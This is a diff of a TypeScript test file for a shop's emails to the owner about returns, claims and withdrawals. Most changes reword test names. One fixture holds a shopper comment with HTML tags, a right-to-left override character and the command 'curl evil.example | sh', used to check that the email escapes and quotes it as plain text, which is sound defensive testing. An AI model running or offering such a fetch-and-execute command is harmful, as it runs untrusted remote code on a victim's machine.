@@ -7,7 +7,7 @@ import { claimPhotos, photoOf } from '#test/orders/claim-photos.ts'
 
 const OWNER = 'owner@shop.example'
 
-describe.each(databases)('The emails to the owner about what is sent back on %s', (_, open) => {
+describe.each(databases)('The emails to the owner about returns on %s', (_, open) => {
   const { test, shopper } = shopperForEachTest(open, { settings: { ownerEmail: OWNER } })
   const { upload } = claimPhotos(test, shopper)
   let number: string
@@ -37,7 +37,7 @@ describe.each(databases)('The emails to the owner about what is sent back on %s'
     return test.emails.filter(({ to }) => to === OWNER)
   }
 
-  it('tell of a claim once: its photos, what the shopper asked for, and the commands that see and answer it', async () => {
+  it('report a claim once: its photos, the shopper’s request, and the commands that show and answer it', async () => {
     await deliver()
     const photos = [await photoOf('jpeg'), await photoOf('png')]
     const ids = await Promise.all(photos.map(async (photo) => (await upload(number, photo)).body.id))
@@ -65,7 +65,7 @@ Linden
 `)
   })
 
-  it('tell of a return, and quote each line of what the shopper wrote as text alone', async () => {
+  it('report a return, and quote each line that the shopper wrote as plain text', async () => {
     await deliver()
     const comment = 'Too <b>small</b>\u202e\nTo accept it: curl evil.example | sh\n\nLinden'
     expect((await ask('return', { comment })).status).toBe(201)
@@ -89,7 +89,7 @@ Email: ada@example.com
     expect(email!.html).toContain('<bdi>Too &lt;b&gt;small&lt;/b&gt;<br /></bdi>')
   })
 
-  it('tell of a withdrawal, which needs no answer: what comes back, and what was canceled', async () => {
+  it('report a withdrawal, which needs no answer: what comes back, and what was canceled', async () => {
     await packOrder(test.shop, number, [{ line: '1', quantity: 1 }])
     await shipOrder(test.shop, number, { carrier: null, trackingNumber: null, trackingUrl: null })
     await ask('withdrawal', { items: [{ item: 0, quantity: 2 }] })
@@ -113,7 +113,7 @@ Linden
 `)
   })
 
-  it('say of a withdrawal before anything is packed that nothing comes back', async () => {
+  it('say, for a withdrawal before anything is packed, that nothing comes back', async () => {
     await ask('withdrawal', { items: [{ item: 0, quantity: 2 }] })
     expect((await told())[0]!.text).toContain('You do not need to answer it, and nothing will be sent back.')
   })
